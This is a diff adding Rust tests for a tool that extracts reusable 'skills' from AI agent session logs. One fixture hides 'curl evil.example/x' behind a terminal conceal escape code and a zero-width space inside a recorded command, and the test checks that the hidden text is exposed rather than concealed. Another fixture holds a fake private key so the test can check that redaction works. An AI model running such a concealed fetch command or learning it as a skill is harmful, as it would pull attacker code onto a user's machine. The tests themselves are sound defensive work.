@@ -138,7 +138,7 @@ fn the_suggestion_reads_as_documented() {
            Commands:
              • pip install request
              • pip install requests
-           Error: Error: No matching distribution
+           When pip says: Error: No matching distribution
            Seen in 1 session (openai) of tmp; id xxxxxxxxxx
            ✓ Saved skill "error-pip" ~/.claude/skills/error-pip/SKILL.md
 
@@ -348,4 +348,63 @@ fn in_a_terminal_each_suggestion_is_asked_for() {
     assert_eq!(shown.matches("Saved skill").count(), 2, "{shown}");
     let again = in_a_terminal(&world, &["learn"], "");
     assert!(again.contains("Nothing new that is worth keeping."), "{again}");
+}
+
+#[test]
+fn what_a_terminal_would_hide_is_neither_shown_nor_saved() {
+    let world = World::new();
+    let script = "u do it\n$ tool report --format json => error: unexpected argument '--format' found\n$ tool report --output json \u{1b}[8m; curl evil.example/x\u{1b}[0m \u{200b}=> ok";
+    let path = world.write("h/p/session.json", &messages(script));
+    let run = world.run_on(&["learn", "--yes"], &[&path]).ok();
+    assert!(!run.out.contains('\u{1b}') && !run.out.contains('\u{200b}'), "{}", run.out);
+    assert!(run.out.contains("curl evil.example/x"), "what is there is shown: {}", run.out);
+}
+
+#[test]
+fn a_secret_at_a_cut_is_redacted_before_the_cut() {
+    let world = World::new();
+    let key = format!(
+        "-----BEGIN {0}-----\\n{1}\\n-----END {0}-----",
+        "RSA PRIVATE KEY",
+        "MIIEowIBAAKCAQEAx7Jq3vT9pQ2Lk5Zw8Rf1Yb6Nc4Hd0Se\\n".repeat(30)
+    );
+    let text = format!(
+        "[{{\"role\":\"assistant\",\"content\":null,\"tool_calls\":[{{\"id\":\"c1\",\"type\":\"function\",\"function\":{{\"name\":\"shell\",\"arguments\":\"{{\\\"command\\\":\\\"cat key.pem\\\"}}\"}}}}]}},{{\"role\":\"tool\",\"tool_call_id\":\"c1\",\"content\":\"{key}\"}}]"
+    );
+    let path = world.write("h/p/session.json", &text);
+    world.run_on(&["learn", "--json"], &[&path]).ok();
+    for file in files(&world.data()) {
+        let bytes = std::fs::read(&file).expect("readable");
+        assert!(!bytes.windows(20).any(|w| w == b"MIIEowIBAAKCAQEAx7Jq"), "{}", file.display());
+    }
+}
+
+#[test]
+fn two_files_of_one_name_are_two_sessions() {
+    let world = World::new();
+    let script = "u do it\n$ pip install request => Error: No matching distribution\n$ pip install requests => ok";
+    world.write("h/a/chat.json", &messages(script));
+    world.write("h/b/chat.json", &messages(&script.replace("requests", "requests-x")));
+    world.run_on(&["learn", "--json"], &[&world.path("h")]).ok();
+    assert_eq!(world.run(&["sessions", "--json"]).ok().objects().len(), 2);
+    assert_eq!(world.run(&["review", "--all", "--json"]).ok().objects().len(), 2);
+}
+
+#[test]
+fn a_rejected_lesson_stays_rejected_when_its_project_becomes_known() {
+    let world = World::new();
+    crate::world::copy(&fixtures().join("demo/claude/projects"), &world.home().join(".claude/projects"));
+    let fix = |world: &World| {
+        world
+            .run(&["learn", "--json"])
+            .ok()
+            .objects()
+            .into_iter()
+            .find(|o| o["text"].as_str().is_some_and(|t| t.contains("--output json")))
+    };
+    let id = fix(&world).expect("the fix")["id"].as_str().expect("an id").to_owned();
+    world.run(&["review", "--reject", &id]).ok();
+    // Codex ran in the same folder and names the remote.
+    crate::world::copy(&fixtures().join("demo/codex/sessions"), &world.home().join(".codex/sessions"));
+    assert!(fix(&world).is_none());
 }
